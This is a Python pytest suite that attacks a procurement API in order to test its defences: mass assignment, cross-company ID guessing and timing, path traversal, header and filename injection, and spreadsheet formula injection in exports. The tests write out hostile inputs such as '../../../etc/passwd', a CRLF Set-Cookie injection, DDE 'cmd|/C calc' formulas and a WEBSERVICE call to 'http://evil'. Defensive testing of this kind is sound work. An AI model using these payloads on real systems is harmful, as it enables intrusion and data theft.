"""What a person who is let in tries at documents: other people's, other companies', and fields that are not theirs."""

from __future__ import annotations

import io
import json
import re
import statistics
import time
import uuid
import zipfile
from typing import Any

import pytest
from api import Session, fields_of, reason_of
from attackers import OWNED, address_of, described, made_for, rows_in
from papers import title_of, written

from chassis import contract
from gateway import routes
from infra.local.demo import records
from infra.local.demo.records import id_of
from infra.local.demo.story import day_in, line_of

REQUISITIONS, ORDERS = "/v1/procurement/purchase-requisitions", "/v1/procurement/purchase-orders"
BEARING = {"item": "2002-0004", "quantity": "10"}
OUTPUT_ONLY = 3


def good() -> dict[str, Any]:
    return {
        "title": title_of("越权"), "currency": "CNY", "needDate": day_in(20), "deliveryPlace": "上海",
        "lines": [line_of(BEARING)],
    }  # fmt: skip


def of_the_server(descriptor: Any) -> list[str]:
    """Fields that the server alone writes."""
    return [field.name for field in descriptor.fields if OUTPUT_ONLY in contract.behaviours_of(field)]


VALUES: dict[int, Any] = {9: str(uuid.UUID(int=1)), 5: 9, 8: True, 14: "APPROVED"}


def forged_value(field: Any) -> Any:
    value: Any = {"seconds": 1} if field.message_type is not None else VALUES.get(field.type, "9")
    value = "2026-01-01T00:00:00Z" if field.message_type is not None else value
    return [value] if contract.repeated(field) else value


# the bytes of a file are no document
FIELDLESS = ("UploadAttachment",)
WRITTEN = [
    b for b in routes.bindings(contract.load())
    if b.verb in ("POST", "PATCH") and b.body not in ("", "*") and b.method.name not in FIELDLESS
]  # fmt: skip


@pytest.mark.parametrize("binding", WRITTEN, ids=lambda b: b.method.name)
async def test_attack_mass_assignment(admin: Session, requester: Session, binding: routes.Binding) -> None:
    """Every field that the server writes is refused by name when a caller sends it: at every create and update."""
    descriptor: Any = binding.method.request.DESCRIPTOR.fields_by_name[binding.body].message_type
    fields = [descriptor.fields_by_name[name] for name in of_the_server(descriptor)]
    # the id of a new document may be the caller's own choice, an old one's stands in the address; the etag is asked for
    fields = [field for field in fields if field.name not in ("id", "etag")]
    assert fields
    path, company, session = address_of(binding), id_of("identity.company", "SH"), admin
    if binding.verb == "PATCH":
        base, query = path.rpartition("/")[0], {"page_size": 1}
        if path.startswith(REQUISITIONS) or binding.method.name in OWNED:
            session = requester
        if path.startswith(REQUISITIONS):
            await session.call("POST", REQUISITIONS, good())
        if binding.method.name == "UpdateRole":
            query["filter"] = f'code = "{records.roles()[0].key}"'  # one that did not come with the product
        listed = await session.get(base, company=company, **query)
        rows = rows_in(base, listed)
        row = rows[0] if rows else await made_for(binding, session, company)
        path = f"{base}/{row['id']}"
    for field in fields:
        content = json.dumps({field.json_name: forged_value(field)})
        answer = await session.raw(binding.verb, path, content, company=company)
        assert answer.status_code == 400, (field.name, described(answer))
        at = {name.split("[")[0]: reason for name, reason in fields_of(answer).items()}
        assert at.get(field.json_name) in ("FIELD_READ_ONLY", "FIELD_TYPE", "FIELD_FORMAT"), (
            field.name,
            described(answer),
        )


@pytest.mark.parametrize("name", ["ownerId", "companyId", "state", "amount", "number", "contentHash", "departmentId"])
async def test_attack_mass_assignment_leaves_no_trace(requester: Session, name: str) -> None:
    """Neither the document nor a line takes what the server computes, whatever the spelling."""
    snake = re.sub("([A-Z])", lambda found: "_" + found[1].lower(), name)
    for spelled in {name, snake}:
        answer = await requester.raw("POST", REQUISITIONS, json.dumps(good() | {spelled: "APPROVED"}))
        assert (answer.status_code, reason_of(answer)) == (400, "INVALID_REQUEST"), described(answer)
    for extra in ({"orderId": str(uuid.UUID(int=1))}, {"amount": "1.00"}, {"__proto__": {"x": 1}}, {"constructor": 1}):
        body = good()
        body["lines"][0] |= extra
        answer = await requester.raw("POST", REQUISITIONS, json.dumps(body))
        assert (answer.status_code, reason_of(answer)) == (400, "INVALID_REQUEST"), described(answer)


async def foreign_documents(door: Any) -> dict[str, str]:
    """Documents of another company by their addresses."""
    buyer = await door("fuxiaoyi")
    order = (await buyer.get(ORDERS, page_size=1))["purchaseOrders"][0]
    requisition = await written(door, title_of("别家的"), BEARING, by="requester in Suzhou")
    return {REQUISITIONS: requisition["id"], ORDERS: order["id"]}


def without_facts(answer: Any, guessed: str) -> str:
    """An answer as the guesser sees it, without what he sent himself and the trace's id."""
    return re.sub(r"[0-9a-f]{32}", "", answer.text.replace(guessed, "ID"))


async def test_attack_id_guessing_across_companies(admin: Session, requester: Session, door: Any) -> None:
    """Another company's document answers as a random id does: the same words, and as fast."""
    foreign = await foreign_documents(door)
    buyer = await door("dingxiaoyan")
    for path, found in foreign.items():
        who = requester if path == REQUISITIONS else buyer
        actions = ["", ":listLinks"] + ([":print"] if path == ORDERS else [":preview"])
        for action in actions:
            times: dict[str, list[float]] = {"foreign": [], "random": []}
            bodies: dict[str, set[str]] = {"foreign": set(), "random": set()}
            for _ in range(30):
                for kind, guessed in (("foreign", found), ("random", str(uuid.uuid4()))):
                    began = time.perf_counter()
                    answer = await read(who, f"{path}/{guessed}{action}")
                    times[kind].append(time.perf_counter() - began)
                    assert answer.status_code == 404, described(answer)
                    bodies[kind].add(without_facts(answer, guessed))
            assert bodies["foreign"] == bodies["random"]
            assert len(bodies["foreign"]) == 1
            apart = statistics.median(times["foreign"]) - statistics.median(times["random"])
            assert abs(apart) < 0.005, f"{path}{action}: {apart * 1000:.1f} ms apart"


async def read(session: Any, path: str) -> Any:
    headers = {"accept-language": "en"}
    return await session._send("GET", session.address + path, headers=headers)


WRITES = ["", ":submit", ":cancel", ":close", ":copy"]


async def test_attack_id_guessing_by_writing(requester: Session, door: Any) -> None:
    """Writing to another company's document says no more than writing to nothing, also with its company named."""
    found = (await foreign_documents(door))[REQUISITIONS]
    for action in WRITES:
        body = '{"title": "别家的"}' if not action else '{"reason": "x"}' if action in (":cancel", ":close") else "{}"
        verb = "POST" if action else "PATCH"
        seen = set()
        for guessed in (found, str(uuid.uuid4())):
            answer = await requester.raw(verb, f"{REQUISITIONS}/{guessed}{action}", body)
            assert (answer.status_code, reason_of(answer)) == (404, "DOCUMENT_NOT_FOUND"), described(answer)
            seen.add(without_facts(answer, guessed))
        assert len(seen) == 1
        suzhou = id_of("identity.company", "SZ")
        answer = await requester.raw(verb, f"{REQUISITIONS}/{found}{action}", body, company=suzhou)
        assert (answer.status_code, reason_of(answer)) == (403, "COMPANY_NOT_ALLOWED"), described(answer)


async def test_attack_references_to_other_companies(requester: Session, door: Any) -> None:
    """A filter by another company's values, a batch of its ids and a copy of its lines bring nothing."""
    found = (await foreign_documents(door))[REQUISITIONS]
    theirs = await (await door("requester in Suzhou")).get(f"{REQUISITIONS}/{found}")
    for text in (
        f'company_id = "{theirs["companyId"]}"',
        f'owner_id = "{theirs["ownerId"]}"',
        f'title = "{theirs["title"]}"',
    ):
        got = await requester.get(REQUISITIONS, filter=text, summarize="true")
        assert got["purchaseRequisitions"] == []
        assert int(got["totalSize"]) == 0
    assert (await requester.get(f"{REQUISITIONS}:batchGet", ids=found))["purchaseRequisitions"] == []
    assert (await requester.get(REQUISITIONS, search=theirs["title"]))["purchaseRequisitions"] == []


NAMES = [
    "../../../etc/passwd",
    "..\\..\\windows",
    "a\x00b",
    'x"; filename="evil.exe',
    "a\r\nSet-Cookie: x=y",
    "%2e%2e%2f",
]


async def test_attack_paths_and_names_of_files(instance: Any, requester: Session, stranger: Any, door: Any) -> None:
    """Neither an address nor a parameter leads out of the web root, nor names a download."""
    outside = ["/etc/passwd", "/instance.json", "/.heyi/attack/instance.json", "/gateway/app.py", "/pyproject.toml"]
    ways = [
        "",
        "/..",
        "/../../../../../../../..",
        "/assets/../../..",
        "/%2e%2e/%2e%2e",
        "/..%2f..%2f..",
        "/..%5c..",
        "/%252e%252e",
    ]
    client = stranger()
    for way in ways:
        for file in outside:
            answer = await client.get(f"{instance.url}{way}{file}")
            assert answer.status_code in (400, 404) or "text/html" in answer.headers["content-type"], (
                way,
                described(answer),
            )
            assert "root:" not in answer.text
            assert "secrets" not in answer.text
    for name in NAMES:
        query = {"filter": 'title = "x"', "columns": name, "locale": name}
        answer = await requester.raw("GET", f"{REQUISITIONS}:export", query=query)
        assert answer.status_code in (200, 400, 429), described(answer)
        assert "set-cookie" not in answer.headers
        if answer.status_code == 200:
            assert re.fullmatch(
                r'attachment; filename="[\w .-]+"; filename\*=UTF-8\'\'[\w%.-]+', answer.headers["content-disposition"]
            )
    buyer = await door("dingxiaoyan")
    order = (await buyer.get(ORDERS, page_size=1))["purchaseOrders"][0]
    answer = await buyer._send("GET", f"{buyer.address}{ORDERS}/{order['id']}:print")
    assert answer.status_code == 200, described(answer)
    assert answer.content.startswith(b"%PDF")
    assert re.fullmatch(
        r'inline; filename="[\w .-]+"; filename\*=UTF-8\'\'[\w%.-]+', answer.headers["content-disposition"]
    )
    assert "'unsafe-inline'" in answer.headers["content-security-policy"]
    assert "script" not in answer.headers["content-security-policy"]


async def test_attack_links_and_formulas_inside_an_export(requester: Session) -> None:
    """The file holds no formula, link, macro or outside reference, whatever the titles say."""
    mark = uuid.uuid4().hex[:8]
    bad = [
        '=cmd|"/C calc"!A0',
        '@SUM(1+1)*cmd|"/C calc"!A0',
        '=WEBSERVICE("http://evil")',
        "http://evil.example/",
        "\t=1+1",
        "＝1+1",
    ]
    made = []
    for text in bad:
        answer = await requester.raw("POST", REQUISITIONS, json.dumps(good() | {"title": f"{text} {mark}"}))
        if answer.status_code == 201:
            made.append(answer.json()["id"])
        else:
            assert (answer.status_code, reason_of(answer)) == (400, "INVALID_REQUEST"), described(answer)
    assert len(made) >= 5
    query = {"filter": f'title : "{mark}"', "columns": "title"}
    answer = await requester.raw("GET", f"{REQUISITIONS}:export", query=query)
    assert answer.status_code == 200, described(answer)
    with zipfile.ZipFile(io.BytesIO(answer.content)) as book:
        names = book.namelist()
        assert not [name for name in names if re.search(r"vba|externalLink|embedding|activeX|\.bin$|\.\.|^/", name)]
        inside = "".join(book.read(name).decode() for name in names if name.endswith((".xml", ".rels")))
    assert "<f>" not in inside
    assert "hyperlink" not in inside
    assert 'TargetMode="External"' not in inside
    for each in made:
        await requester.call("DELETE", f"{REQUISITIONS}/{each}")
